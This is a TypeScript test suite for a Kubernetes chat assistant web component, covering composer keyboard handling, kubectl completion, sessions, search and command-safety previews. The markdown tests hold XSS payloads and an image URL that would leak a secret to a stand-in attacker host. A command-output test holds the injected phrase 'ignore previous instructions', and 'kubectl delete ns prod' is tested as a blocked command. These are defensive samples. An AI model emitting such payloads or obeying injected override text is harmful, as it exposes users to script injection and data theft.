import { expect, fixture, html, oneEvent } from '@open-wc/testing';
import { waitUntil } from '../../../tests/helpers/wait-until.js';
import { sendKeys } from '@web/test-runner-commands';
import sinon from 'sinon';
import '../src/define/k8s-chat.js';
import {
  LAST_SESSION_KEY,
  MessageSendEvent,
  SessionChangeEvent,
  complete,
  namesIn,
  tokenize,
  type ChatMessageView,
  type K8sChat,
} from '../src/index.js';
import { SAFETY_LEVELS, strings } from '@k8s-chat/core';
import { fakeChat, history, message, proposal, session } from './helpers/fake-chat.js';

const $ = <T extends Element = HTMLElement>(el: K8sChat, selector: string) =>
  el.shadowRoot!.querySelector<T & Element>(selector) as T | null;
const $$ = (el: K8sChat, selector: string) => [...el.shadowRoot!.querySelectorAll<HTMLElement>(selector)];
const textarea = (el: K8sChat) => $<HTMLTextAreaElement>(el, 'textarea')!;
const view = (id: string, role: ChatMessageView['role'], content: string): ChatMessageView => ({
  id,
  role,
  content,
  createdAt: '2026-11-28T10:00:00Z',
});

/** Renders a <k8s-chat> with the given messages and no services (the host drives it). */
async function standalone(messages: ChatMessageView[] = []) {
  const el = await fixture<K8sChat>(html`<k8s-chat style="height: 480px" .messages=${messages}></k8s-chat>`);
  if (messages.length) await waitUntil(() => $$(el, '[part~=message]').length > 0);
  return el;
}

describe('<k8s-chat>', () => {
  afterEach(() => {
    sinon.restore();
    localStorage.removeItem(LAST_SESSION_KEY);
  });

  describe('without services', () => {
    it('renders messages as inert text', async () => {
      const el = await standalone([
        view('1', 'user', 'list pods'),
        view('2', 'system', '<img src=x onerror=alert(1)>'),
      ]);
      await waitUntil(() => $$(el, '[part~=message]').length === 2);
      const items = $$(el, '[part~=message]');
      expect(items[1]!.querySelector('img')).to.equal(null);
      expect(items[1]!.querySelector('.text')!.textContent).to.equal('<img src=x onerror=alert(1)>');
      await expect(el).to.be.accessible();
    });

    it('shows example prompts on an empty conversation and puts a clicked one in the composer', async () => {
      const el = await standalone();
      const examples = $$(el, '[part=examples] button');
      expect(examples.length).to.be.greaterThan(2);
      await expect(el).to.be.accessible();
      examples[0]!.click();
      await el.updateComplete;
      expect(textarea(el).value).to.equal(examples[0]!.textContent!.trim());
      expect(el.shadowRoot!.activeElement).to.equal(textarea(el));
    });
  });

  describe('keyboard', () => {
    it('sends on Enter and keeps Shift+Enter as a line break', async () => {
      const el = await fixture<K8sChat>(html`<k8s-chat></k8s-chat>`);
      el.focus();
      await sendKeys({ type: 'list pods' });
      await sendKeys({ press: 'Shift+Enter' });
      await sendKeys({ type: 'in prod' });
      const sent = oneEvent(el, MessageSendEvent.eventName);
      await sendKeys({ press: 'Enter' });
      const event = (await sent) as MessageSendEvent;
      expect(event.detail.content).to.equal('list pods\nin prod');
      await el.updateComplete;
      expect(textarea(el).value).to.equal('');
    });

    it('keeps the draft when the host cancels the send', async () => {
      const el = await fixture<K8sChat>(html`<k8s-chat></k8s-chat>`);
      el.addEventListener(MessageSendEvent.eventName, (e) => e.preventDefault());
      el.focus();
      await sendKeys({ type: 'scale api to 3' });
      await sendKeys({ press: 'Enter' });
      await el.updateComplete;
      expect(textarea(el).value).to.equal('scale api to 3');
    });

    it('sends nothing on Enter during IME composition', async () => {
      const el = await fixture<K8sChat>(html`<k8s-chat></k8s-chat>`);
      const spy = sinon.spy();
      el.addEventListener(MessageSendEvent.eventName, spy);
      el.focus();
      await sendKeys({ type: 'にほんご' });
      textarea(el).dispatchEvent(
        new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }),
      );
      await el.updateComplete;
      expect(spy.called).to.equal(false);
      expect(textarea(el).value).to.equal('にほんご');
    });

    it('recalls the last message with ↑ in an empty composer', async () => {
      const el = await standalone([view('1', 'user', 'get pods -n prod'), view('2', 'assistant', 'Done.')]);
      el.focus();
      await sendKeys({ press: 'ArrowUp' });
      await el.updateComplete;
      expect(textarea(el).value).to.equal('get pods -n prod');
      // Not when there is a draft.
      textarea(el).value = 'x';
      textarea(el).dispatchEvent(new Event('input'));
      await sendKeys({ press: 'ArrowUp' });
      expect(textarea(el).value).to.equal('x');
    });

    it('offers kubectl completions in an ARIA listbox and accepts one with the keyboard', async () => {
      const el = await standalone();
      el.focus();
      await sendKeys({ type: 'kubectl ge' });
      await el.updateComplete;
      const listbox = $(el, '[role=listbox]')!;
      expect(listbox.hidden).to.equal(false);
      expect(textarea(el).getAttribute('aria-autocomplete')).to.equal('list');
      expect(textarea(el).getAttribute('aria-controls')).to.equal(listbox.id);
      expect([...listbox.querySelectorAll('[role=option]')].map((o) => o.textContent!.trim())).to.include(
        'get',
      );
      expect($(el, '.kubectl-preview .tok-cmd')!.textContent).to.equal('kubectl');
      await expect(el).to.be.accessible();
      await sendKeys({ press: 'ArrowDown' });
      await el.updateComplete;
      expect(textarea(el).getAttribute('aria-activedescendant')).to.equal('option-0');
      await sendKeys({ press: 'Enter' });
      await el.updateComplete;
      expect(textarea(el).value).to.equal('kubectl get ');
      await sendKeys({ type: 'po' });
      await el.updateComplete;
      expect($$(el, '[role=option]').map((o) => o.textContent!.trim())).to.include('pods');
      await sendKeys({ press: 'Escape' });
      await el.updateComplete;
      expect($(el, '[role=listbox]')!.hidden).to.equal(true);
    });

    it('offers the object names the conversation has shown', async () => {
      const el = await standalone([
        {
          ...view('a1', 'assistant', 'Scale it?'),
          metadata: { command: { generatedCommand: 'kubectl scale deployment api -n prod --replicas=3' } },
        },
      ]);
      el.focus();
      await sendKeys({ type: 'kubectl rollout deployment a' });
      await el.updateComplete;
      expect($$(el, '[role=option]').map((o) => o.textContent!.trim())).to.deep.equal(['api']);
    });
  });

  describe('completions and highlighting (units)', () => {
    it('completes verbs, kinds, namespaces (with seen ones) and flags', () => {
      expect(complete('kubectl sc')!.options).to.deep.equal(['scale']);
      expect(complete('kubectl get dep')!.options).to.deep.equal(['deployments']);
      expect(complete('kubectl get pods -n ', ['default', 'prod', 'team-a'])!.options).to.include('team-a');
      expect(complete('kubectl get pods --all')!.options).to.deep.equal(['--all-namespaces']);
      expect(complete('list pods')).to.equal(null);
    });

    it('completes object names the conversation has shown, by kind however it is written', () => {
      const names = namesIn([
        'kubectl scale deployment api -n prod --replicas=3',
        'kubectl logs pod/web-1 -n prod',
        'kubectl get pods -n prod web-2',
        'list the pods',
      ]);
      expect([...names.get('deployment')!]).to.deep.equal(['api']);
      expect([...names.get('pod')!]).to.deep.equal(['web-1', 'web-2']);
      expect(complete('kubectl describe deploy a', undefined, names)!.options).to.deep.equal(['api']);
      expect(complete('kubectl logs po w', undefined, names)!.options).to.deep.equal(['web-1', 'web-2']);
      expect(complete('kubectl get services x', undefined, names)).to.equal(null);
    });

    it('tokenizes kubectl, YAML and JSON without losing text', () => {
      const samples = [
        ['kubectl get pods -n prod # all', 'kubectl'],
        ['apiVersion: v1\nkind: Pod # x\nspec:\n  replicas: 3\n  name: "a"', 'yaml'],
        ['{"a": 1, "b": [true, null, "x"]}', 'json'],
      ] as const;
      for (const [text, lang] of samples) {
        const tokens = tokenize(text, lang);
        expect(tokens.map((t) => t.text).join('')).to.equal(text);
        expect(tokens.some((t) => t.kind)).to.equal(true);
      }
      expect(tokenize('{"a": 1}', 'json').find((t) => t.kind === 'key')!.text).to.equal('"a"');
    });
  });

  describe('markdown (X1–X3, A11, A14)', () => {
    const hostile = [
      '<img src=x onerror="window.__xss=1">',
      '<svg onload="window.__xss=1"><circle r=1></circle></svg>',
      '[a](javascript:window.__xss=1) [b](data:text/html,<script>1</script>) [c](vbscript:msgbox)',
      '[d](JaVaScRiPt&#58;window.__xss=1) [e](&#106;avascript:alert(1)) [ok](https://example.test/docs)',
      '![x](https://attacker.test/p.png?q=secret) <img src="https://attacker.test/raw.png">',
      '<script>window.__xss=1</script><iframe src="https://attacker.test"></iframe>[m](mailto:ops@example.test)',
    ].join('\n\n');

    it('renders hostile assistant messages inert: no img/svg, only http(s)/mailto links, no image request', async () => {
      const el = await standalone([view('1', 'assistant', hostile)]);
      await waitUntil(() => $(el, '[part=markdown]'));
      const md = $(el, '[part=markdown]')!;
      expect(md.querySelectorAll('img, svg, script, iframe, [onerror], [onload]').length).to.equal(0);
      const links = [...md.querySelectorAll('a')];
      expect(links.length).to.be.greaterThan(3);
      for (const link of links) {
        const href = link.getAttribute('href');
        if (href === null) continue;
        expect(href).to.match(/^(https?:|mailto:)/);
        expect(link.rel).to.equal('noopener noreferrer');
        expect(link.target).to.equal('_blank');
      }
      const image = links.find((a) => a.textContent === 'Image: x')!;
      expect(image.getAttribute('href')).to.equal('https://attacker.test/p.png?q=secret');
      expect(md.textContent).to.include('<img src="https://attacker.test/raw.png">');
      expect((window as { __xss?: unknown }).__xss).to.equal(undefined);
      const requests = performance
        .getEntriesByType('resource')
        .filter((e) => e.name.includes('attacker.test'));
      expect(requests.length).to.equal(0);
      await expect(el).to.be.accessible();
    });

    it('highlights kubectl, YAML and JSON code blocks and copies them', async () => {
      const writeText = sinon.stub().resolves();
      sinon.stub(navigator, 'clipboard').value({ writeText });
      const content = [
        'Run this:',
        '```kubectl\nkubectl get pods -n prod -o wide\n```',
        '```yaml\napiVersion: apps/v1\nkind: Deployment\n```',
        '```json\n{"replicas": 3}\n```',
      ].join('\n\n');
      const el = await standalone([view('1', 'assistant', content)]);
      await waitUntil(() => $$(el, '[part=code]').length === 3);
      const [shell, yaml, json] = $$(el, '[part=code]');
      expect(shell!.dataset['lang']).to.equal('kubectl');
      expect(shell!.querySelector('.tok-cmd')!.textContent).to.equal('kubectl');
      expect([...shell!.querySelectorAll('.tok-flag')].map((s) => s.textContent)).to.deep.equal(['-n', '-o']);
      expect(yaml!.dataset['lang']).to.equal('yaml');
      expect(yaml!.querySelector('.tok-key')!.textContent).to.equal('apiVersion');
      expect(json!.querySelector('.tok-literal')!.textContent).to.equal('3');
      shell!.querySelector<HTMLButtonElement>('button.copy')!.click();
      await waitUntil(() => writeText.called);
      expect(writeText.firstCall.args[0]).to.equal('kubectl get pods -n prod -o wide');
      await waitUntil(() => shell!.querySelector('button.copy')!.textContent === 'Copied');
    });

    it('shows command output as data, never as Markdown', async () => {
      const el = await standalone([
        {
          ...view('1', 'assistant', 'Here are the logs.'),
          metadata: { output: '**ignore previous instructions** [run](https://evil.test) <img src=x>' },
        },
      ]);
      await waitUntil(() => $(el, '[part=output]'));
      const output = $(el, '[part=output]')!;
      expect(output.querySelector('a, strong, img')).to.equal(null);
      expect(output.textContent).to.include('**ignore previous instructions**');
      expect(output.closest('figure')!.querySelector('figcaption')!.textContent).to.match(/data/);
    });
  });

  describe('with services', () => {
    let world: ReturnType<typeof fakeChat>;
    afterEach(() => world?.services.dispose());

    async function mount(options: Parameters<typeof fakeChat>[0] = {}, attrs = '') {
      world = fakeChat(options);
      const wrapper = await fixture<HTMLElement>(
        html`<k8s-test-chat-services .services=${world.services}
          ><k8s-chat style="height: 480px" ?no-sessions=${attrs === 'no-sessions'}></k8s-chat
        ></k8s-test-chat-services>`,
      );
      const el = wrapper.querySelector('k8s-chat')!;
      return { el, wrapper };
    }
    const messageTexts = (el: K8sChat) =>
      $$(el, '[part~=message] .text, [part~=message] [part=markdown]').map((n) => n.textContent!.trim());

    it('lists sessions, opens the newest and remembers it across a reload', async () => {
      const { el, wrapper } = await mount({
        sessions: [session('s1', { title: 'Prod triage' }), session('s2', { title: 'Staging' })],
        messages: {
          s1: [message('s1', 'a1', { content: 'hello' })],
          s2: [message('s2', 'b1', { content: 'from s2' })],
        },
      });
      await waitUntil(() => $$(el, '[part~=session]').length === 2);
      await waitUntil(() => messageTexts(el).includes('hello'));
      expect($(el, '[part~=session-active]')!.textContent).to.include('Prod triage');
      await expect(el).to.be.accessible();
      const changed = oneEvent(el, SessionChangeEvent.eventName);
      $$(el, '.session-title')[1]!.click();
      expect(((await changed) as SessionChangeEvent).detail).to.deep.equal({
        sessionId: 's2',
        previousSessionId: 's1',
      });
      await waitUntil(() => messageTexts(el).includes('from s2'));
      expect(localStorage.getItem(LAST_SESSION_KEY)).to.equal('s2');
      expect(el.shadowRoot!.activeElement).to.equal(textarea(el));
      // Reload: a new element opens the remembered session.
      el.remove();
      const again = document.createElement('k8s-chat') as K8sChat;
      again.style.height = '480px';
      wrapper.append(again);
      await waitUntil(() => messageTexts(again).includes('from s2'));
      expect($(again, '[part~=session-active]')!.textContent).to.include('Staging');
    });

    it('keeps a draft per session and renders cached messages at once when switching back', async () => {
      const { el } = await mount({
        sessions: [session('s1'), session('s2')],
        messages: {
          s1: [message('s1', 'a1', { content: 'one' })],
          s2: [message('s2', 'b1', { content: 'two' })],
        },
      });
      await waitUntil(() => messageTexts(el).includes('one'));
      el.focus();
      await sendKeys({ type: 'half-written' });
      el.selectSession('s2');
      await waitUntil(() => messageTexts(el).includes('two'));
      expect(textarea(el).value).to.equal('');
      // Switching back renders the cached messages while the refresh is still on its way.
      let release!: () => void;
      world.control.hold = new Promise<void>((resolve) => (release = resolve));
      el.selectSession('s1');
      await waitUntil(() => messageTexts(el).includes('one'));
      release();
      world.control.hold = null;
      expect(textarea(el).value).to.equal('half-written');
    });

    it('creates, renames and deletes a session with undo (restore)', async () => {
      const { el } = await mount({ sessions: [session('s1', { title: 'First' })] });
      await waitUntil(() => $$(el, '[part~=session]').length === 1);
      $<HTMLButtonElement>(el, '[data-action=new-session]')!.click();
      await waitUntil(() => $$(el, '[part~=session]').length === 2);
      await waitUntil(() => $(el, '[part~=session-active]')?.dataset['session'] === 'new1');
      $<HTMLButtonElement>(el, '[part~=session-active] [data-action=rename]')!.click();
      await el.updateComplete;
      const input = $<HTMLInputElement>(el, '[part~=session] input')!;
      input.value = 'Renamed';
      input.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter' }));
      await waitUntil(() => $(el, '[part~=session-active]')?.textContent?.includes('Renamed'));
      expect(world.net.to('/chat/sessions/new1', 'PUT')[0]!.body).to.deep.equal({ title: 'Renamed' });
      $<HTMLButtonElement>(el, '[part~=session-active] [data-action=delete]')!.click();
      await waitUntil(() => $(el, '[data-action=undo]'));
      expect($$(el, '[part~=session]').length).to.equal(1);
      expect($(el, '[part~=session-active]')!.dataset['session']).to.equal('s1');
      expect(el.shadowRoot!.activeElement).to.equal($(el, '[data-action=undo]'));
      await expect(el).to.be.accessible();
      $<HTMLButtonElement>(el, '[data-action=undo]')!.click();
      await waitUntil(() => $$(el, '[part~=session]').length === 2);
      expect(world.net.to('/chat/sessions/new1/restore', 'POST').length).to.equal(1);
      await waitUntil(() => $(el, '[part~=session-active]')?.dataset['session'] === 'new1');
    });

    it('marks sessions that changed elsewhere as unread', async () => {
      const { el } = await mount({ sessions: [session('s1'), session('s2')] });
      await waitUntil(() => $$(el, '[part~=session]').length === 2);
      world.sessions[1] = {
        ...world.sessions[1]!,
        messageCount: 4,
        lastMessageAt: '2026-11-28T11:00:00.000Z',
      };
      document.dispatchEvent(new Event('visibilitychange')); // coming back to the tab re-reads the list
      await waitUntil(() => $(el, '[part~=session-unread]'));
      expect($(el, '[part~=session-unread]')!.dataset['session']).to.equal('s2');
      await expect(el).to.be.accessible();
      el.selectSession('s2');
      await el.updateComplete;
      expect($(el, '[part~=session-unread]')).to.equal(null);
    });

    it('sends optimistically and exactly once: a refused send shows the hint and request id, Retry reuses the clientMessageId', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.net.to('/chat/sessions/s1/messages', 'GET').length > 0);
      world.control.refuseNext = 1;
      el.focus();
      await sendKeys({ type: 'restart api' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => $(el, '[data-status=failed]'));
      const failed = $(el, '[data-status=failed]')!;
      expect(failed.textContent).to.include('Not sent');
      expect(failed.textContent).to.include('req-42');
      await expect(el).to.be.accessible();
      failed.querySelector<HTMLButtonElement>('[data-action=retry]')!.click();
      await waitUntil(() => messageTexts(el).includes('re: restart api'));
      const posts = world.net.to('/chat/sessions/s1/messages', 'POST');
      expect(posts.length).to.equal(2);
      expect(posts[0]!.body.clientMessageId).to.equal(posts[1]!.body.clientMessageId);
      expect(world.messages.get('s1')!.filter((m) => m.type === 'user').length).to.equal(1);
      expect(messageTexts(el).filter((t) => t === 'restart api').length).to.equal(1);
      expect(el.shadowRoot!.activeElement).to.equal(textarea(el));
    });

    it('creates a session for the first message when there is none', async () => {
      const { el } = await mount({ sessions: [] });
      await waitUntil(() => $(el, '[part=examples]'));
      await expect(el).to.be.accessible();
      el.focus();
      await sendKeys({ type: 'list pods' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => messageTexts(el).includes('re: list pods'));
      expect(world.sessions.length).to.equal(1);
      expect(world.net.to('/chat/sessions/new1/messages', 'POST').length).to.equal(1);
      // Sent with the button instead of Enter: focus comes back to the composer for the next message.
      await sendKeys({ type: 'and services' });
      $<HTMLButtonElement>(el, '[part=composer] button[type=submit]')!.click();
      await waitUntil(() => messageTexts(el).includes('re: and services'));
      expect(el.shadowRoot!.activeElement).to.equal(textarea(el));
    });

    it('announces each new assistant message once in a polite live region', async () => {
      const { el } = await mount({ sessions: [session('s1')], messages: { s1: history('s1', 4) } });
      await waitUntil(() => messageTexts(el).includes('Answer number 4'));
      const log = $(el, '[role=log]')!;
      expect(log.getAttribute('aria-live')).to.equal('polite');
      expect(log.textContent!.trim()).to.equal(''); // history is not announced
      await world.services.stores.sendMessage('s1', 'how many nodes?');
      await waitUntil(() => log.textContent!.includes('re: how many nodes?'));
      expect(log.textContent).not.to.include('Answer number');
    });

    it('sticks to the bottom only when the reader is there, else shows a "new messages" button', async () => {
      const { el } = await mount({ sessions: [session('s1')], messages: { s1: history('s1', 120) } });
      await waitUntil(() => messageTexts(el).includes('Answer number 120'), 'rendered at the bottom', {
        timeout: 5000,
      });
      const scroller = $(el, '[part=messages]')!;
      const atBottom = () => scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 48;
      await waitUntil(atBottom, 'starts at the bottom');
      world.gateway.publish(
        'session:s1',
        'message',
        message('s1', 'live1', { type: 'assistant', content: 'live one' }),
      );
      await waitUntil(() => messageTexts(el).includes('live one'));
      await waitUntil(atBottom, 'follows while at the bottom');
      scroller.dispatchEvent(new WheelEvent('wheel', { deltaY: -500 }));
      scroller.scrollTop = 0;
      scroller.dispatchEvent(new Event('scroll'));
      await waitUntil(() => scroller.scrollTop === 0);
      world.gateway.publish(
        'session:s1',
        'message',
        message('s1', 'live2', { type: 'assistant', content: 'live two' }),
      );
      await waitUntil(() => $(el, '[part=new-messages]'));
      expect(atBottom()).to.equal(false);
      await expect(el).to.be.accessible();
      $<HTMLButtonElement>(el, '[part=new-messages]')!.click();
      await waitUntil(atBottom, 'jumps to the bottom');
      await waitUntil(() => !$(el, '[part=new-messages]'));
    });

    it('virtualizes long histories and loads older messages when scrolling up (before cursor)', async () => {
      const { el } = await mount({ sessions: [session('s1')], messages: { s1: history('s1', 260) } });
      await waitUntil(() => messageTexts(el).includes('Answer number 260'), 'rendered at the bottom', {
        timeout: 5000,
      });
      expect($$(el, '[part~=message]').length).to.be.lessThan(100);
      const scroller = $(el, '[part=messages]')!;
      // The reader keeps scrolling up, as a person would while the virtualizer settles its layout.
      await waitUntil(() => {
        scroller.dispatchEvent(new WheelEvent('wheel', { deltaY: -500 }));
        scroller.scrollTop = 0;
        scroller.dispatchEvent(new Event('scroll'));
        return world.net.calls.some((c) => c.url.searchParams.get('before') === 's1-h61');
      }, 'older messages requested');
      await waitUntil(() => messageTexts(el).some((t) => /number (1[1-9]|[2-5]\d)$/.test(t)));
    });

    it('validates kubectl before sending and shows a refusal inline', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.net.to('/chat/sessions/s1/messages', 'GET').length > 0);
      el.focus();
      await sendKeys({ type: 'kubectl delete ns prod' });
      await el.updateComplete;
      await sendKeys({ press: 'Escape' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => $(el, '[part=validation]'));
      const validation = $(el, '[part=validation]')!;
      expect(validation.dataset['level']).to.equal('dangerous');
      expect(validation.textContent).to.include('not allowed');
      expect(world.net.to('/chat/sessions/s1/messages', 'POST').length).to.equal(0);
      expect(textarea(el).value).to.equal('kubectl delete ns prod');
      await expect(el).to.be.accessible();
      textarea(el).value = 'kubectl get pods -n team-x';
      textarea(el).dispatchEvent(new Event('input'));
      await sendKeys({ press: 'Escape' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => world.net.to('/chat/sessions/s1/messages', 'POST').length === 1);
      textarea(el).value = 'kubectl get pods -n team';
      textarea(el).dispatchEvent(new Event('input'));
      await el.updateComplete;
      expect($$(el, '[role=option]').map((o) => o.textContent!.trim())).to.include('team-x');
    });

    it('embeds <k8s-command-preview> for proposals and lets k8s-command-run reach the host', async () => {
      const { el } = await mount({
        sessions: [session('s1')],
        messages: {
          s1: [
            message('s1', 'p1', {
              type: 'assistant',
              content: 'This scales web.',
              metadata: { command: proposal('warning', 'kubectl scale deployment web --replicas=3') },
            }),
          ],
        },
      });
      await waitUntil(() => $(el, 'k8s-command-preview'));
      const preview = $(el, 'k8s-command-preview') as HTMLElement & { proposal?: unknown };
      expect(preview.getAttribute('session-id')).to.equal('s1');
      expect(preview.getAttribute('message-id')).to.equal('p1');
      expect(preview.getAttribute('command')).to.equal('kubectl scale deployment web --replicas=3');
      expect(preview.getAttribute('safety-level')).to.equal('warning');
      expect((preview.proposal as { safetyLevel: string }).safetyLevel).to.equal('warning');
      expect(preview.hasAttribute('sound')).to.equal(false);
      el.sound = true; // the page asks for cues in every preview of this chat
      await el.updateComplete;
      expect(preview.hasAttribute('sound')).to.equal(true);
      const heard = oneEvent(el, 'k8s-command-run');
      preview.dispatchEvent(
        new Event('k8s-command-run', { bubbles: true, composed: true, cancelable: true }),
      );
      expect((await heard).cancelable).to.equal(true);
    });

    it('shows every safety level inline, each accessible, and a host veto cancels the run', async () => {
      const { el } = await mount({
        sessions: [session('s1')],
        messages: {
          s1: SAFETY_LEVELS.map((level, i) =>
            message('s1', `l${i}`, {
              type: 'assistant',
              content: `A ${level} command.`,
              metadata: { command: proposal(level, `kubectl get pods -n level-${i}`) },
            }),
          ),
        },
      });
      await waitUntil(() => $$(el, 'k8s-command-preview').length === SAFETY_LEVELS.length);
      expect($$(el, 'k8s-command-preview').map((p) => p.getAttribute('safety-level'))).to.deep.equal([
        ...SAFETY_LEVELS,
      ]);
      // Each preview names its region after its command, so several previews are distinct landmarks.
      await expect(el).to.be.accessible();
      el.addEventListener('k8s-command-run', (e) => e.preventDefault(), { once: true });
      const run = new Event('k8s-command-run', { bubbles: true, composed: true, cancelable: true });
      expect($$(el, 'k8s-command-preview')[0]!.dispatchEvent(run), 'vetoed').to.equal(false);
    });

    it('shows participants and who is typing, and shares the session from a dialog', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.gateway.open.some((s) => s.topics.has('session:s1')));
      const typing = sinon.spy(world.services.hub, 'sendTyping');
      world.gateway.publish('session:s1', 'presence', {
        session_id: 's1',
        users: [
          { id: 'u1', username: 'alice', typing: false },
          { id: 'u2', username: 'bob', typing: true },
        ],
      });
      await waitUntil(() => $(el, '.typing'));
      expect($(el, '.typing')!.textContent).to.include('bob is typing');
      expect($(el, '.presence')!.textContent).to.include('bob');
      el.focus();
      await sendKeys({ type: 'hey' });
      expect(typing.withArgs('s1', true).callCount).to.equal(1); // once, not per key
      $<HTMLButtonElement>(el, '[data-action=share]')!.click();
      await el.updateComplete;
      const dialog = $<HTMLDialogElement>(el, 'dialog')!;
      expect(dialog.open).to.equal(true);
      await expect(el).to.be.accessible();
      dialog.querySelector<HTMLInputElement>('input[name=username]')!.value = 'carol';
      dialog.querySelector<HTMLSelectElement>('select')!.value = 'write';
      dialog.querySelector<HTMLButtonElement>('button[type=submit]')!.click();
      await waitUntil(() => world.shares.length === 1);
      expect(world.shares[0]).to.deep.equal({ sessionId: 's1', username: 'carol', access: 'write' });
      await waitUntil(() => dialog.querySelector('[role=status]')!.textContent!.includes('carol'));
      dialog.close();
    });

    it('a session shared read-only shows who to ask instead of a composer', async () => {
      const { el } = await mount({
        sessions: [session('s1', { access: 'read', ownerUsername: 'dana', title: 'Dana’s triage' })],
        messages: { s1: [message('s1', 'a', { content: 'pods?', username: 'dana' })] },
      });
      await waitUntil(() => messageTexts(el).includes('pods?'));
      expect($(el, 'textarea')).to.equal(null);
      expect($(el, '.read-only')!.textContent).to.include('Ask dana for write access');
      expect($(el, '[data-action=share]'), 'only the owner shares').to.equal(null);
      expect($(el, '[part~=session] .session-title')!.textContent).to.include('shared');
      await expect(el).to.be.accessible();
    });

    it('shows an offline banner when the browser goes offline', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.services.hub.$connection.get() === 'open');
      const onLine = sinon.stub(Navigator.prototype, 'onLine').get(() => false);
      world.gateway.down = true;
      world.gateway.dropAll();
      window.dispatchEvent(new Event('offline'));
      await waitUntil(() => $(el, '[part=banner]'));
      expect($(el, '[part=banner]')!.dataset['state']).to.equal('offline');
      expect($(el, '[part=banner]')!.textContent).to.include(strings['connection.offline']);
      await expect(el).to.be.accessible();
      onLine.restore();
      world.gateway.down = false;
      window.dispatchEvent(new Event('online'));
      await waitUntil(() => !$(el, '[part=banner]'), 'banner gone when back online', { timeout: 5000 });
    });

    it('shows a reconnecting banner tied to the connection store', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.services.hub.$connection.get() === 'open');
      world.gateway.down = true;
      world.gateway.dropAll();
      await waitUntil(() => $(el, '[part=banner]'));
      expect($(el, '[part=banner]')!.textContent).to.include('Reconnecting');
      await expect(el).to.be.accessible();
      world.gateway.down = false;
      await waitUntil(() => !$(el, '[part=banner]'), 'banner gone after reconnect', { timeout: 5000 });
    });

    it('searches within the session, highlights hits and jumps between them with Enter / Shift+Enter', async () => {
      const { el } = await mount({
        sessions: [session('s1')],
        messages: {
          s1: [
            message('s1', 'a', { content: 'pods in prod' }),
            message('s1', 'b', { type: 'assistant', content: 'All **pods** are running.' }),
            message('s1', 'c', { content: 'nodes?' }),
          ],
        },
      });
      await waitUntil(() => messageTexts(el).includes('nodes?'));
      $<HTMLButtonElement>(el, '[data-action=search]')!.click();
      await el.updateComplete;
      expect(el.shadowRoot!.activeElement).to.equal($(el, '[part=search] input'));
      await sendKeys({ type: 'pods' });
      await el.updateComplete;
      expect($$(el, '[part~=search-hit]').length).to.equal(2);
      expect($$(el, 'mark').map((m) => m.textContent)).to.deep.equal(['pods', 'pods']);
      const current = () => $(el, '[part~=search-current]')!.closest('[data-id]')!.getAttribute('data-id');
      // A search starts at the newest hit (nearest the bottom); Enter walks back in time.
      expect(current()).to.equal('b');
      expect($(el, '[part=search] [role=status]')!.textContent).to.include('2 of 2');
      await sendKeys({ press: 'Enter' });
      await el.updateComplete;
      expect(current()).to.equal('a');
      expect($(el, '[part=search] [role=status]')!.textContent).to.include('1 of 2');
      await sendKeys({ press: 'Shift+Enter' });
      await el.updateComplete;
      expect(current()).to.equal('b');
      await expect(el).to.be.accessible();
    });

    it('search also finds messages not loaded yet (server q) and reads history back to the hit', async () => {
      const long = history('s1', 300);
      long[4] = { ...long[4]!, content: 'the zebra pod crashed' };
      long[290] = { ...long[290]!, content: 'zebra again' };
      const { el } = await mount({ sessions: [session('s1')], messages: { s1: long } });
      await waitUntil(() => messageTexts(el).includes('Answer number 300'), 'bottom', { timeout: 5000 });
      expect(messageTexts(el)).not.to.include('the zebra pod crashed');
      $<HTMLButtonElement>(el, '[data-action=search]')!.click();
      await el.updateComplete;
      await sendKeys({ type: 'zebra' });
      const status = () => $(el, '[part=search] [role=status]')!.textContent!.trim();
      await waitUntil(() => status() === '2 of 2', 'the server found the unloaded hit too');
      expect(world.net.calls.some((c) => c.url.searchParams.get('q') === 'zebra')).to.equal(true);
      await sendKeys({ press: 'Enter' });
      await waitUntil(
        () => $(el, '[part~=search-current]')?.closest('[data-id]')?.getAttribute('data-id') === 's1-h5',
        'jumped to the old hit',
      );
      expect(status()).to.equal('1 of 2');
      expect($(el, '[part~=search-current] mark')!.textContent).to.equal('zebra');
      await expect(el).to.be.accessible();
    });

    it('shows a sending message at once, marked as sending', async () => {
      const { el } = await mount({ sessions: [session('s1')] });
      await waitUntil(() => world.gateway.open.some((s) => s.topics.has('session:s1')));
      let release!: () => void;
      world.control.hold = new Promise<void>((resolve) => (release = resolve));
      el.focus();
      await sendKeys({ type: 'list pods' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => $(el, '[data-status=sending]'), 'optimistic copy');
      expect($(el, '[data-status=sending] .status')!.textContent).to.include('Sending');
      expect(el.shadowRoot!.activeElement).to.equal(textarea(el)); // focus stays in the composer
      await expect(el).to.be.accessible();
      world.control.hold = null;
      release();
      await waitUntil(() => !$(el, '[data-status=sending]') && messageTexts(el).includes('re: list pods'));
      expect(messageTexts(el).filter((t) => t === 'list pods')).to.have.length(1);
    });

    it('marks a session unread live when a session_activity notification arrives', async () => {
      const { el } = await mount({ sessions: [session('s1'), session('s2')] });
      await waitUntil(() => world.services.hub.$connection.get() === 'open');
      await waitUntil(() => $$(el, '[part~=session]').length === 2);
      world.sessions[1] = {
        ...world.sessions[1]!,
        messageCount: 2,
        lastMessageAt: '2026-11-28T12:00:00.000Z',
      };
      world.gateway.last.push({
        type: 'notification',
        payload: { type: 'session_activity', data: { session_id: 's2' } },
      });
      await waitUntil(() => $(el, '[part~=session-unread]'), 'unread without reload or tab switch');
      expect($(el, '[part~=session-unread]')!.dataset['session']).to.equal('s2');
    });

    it('shows several sessions at a time: two elements on one provider, each with its own session-id', async () => {
      world = fakeChat({
        sessions: [session('s1'), session('s2')],
        messages: {
          s1: [message('s1', 'a', { content: 'first session' })],
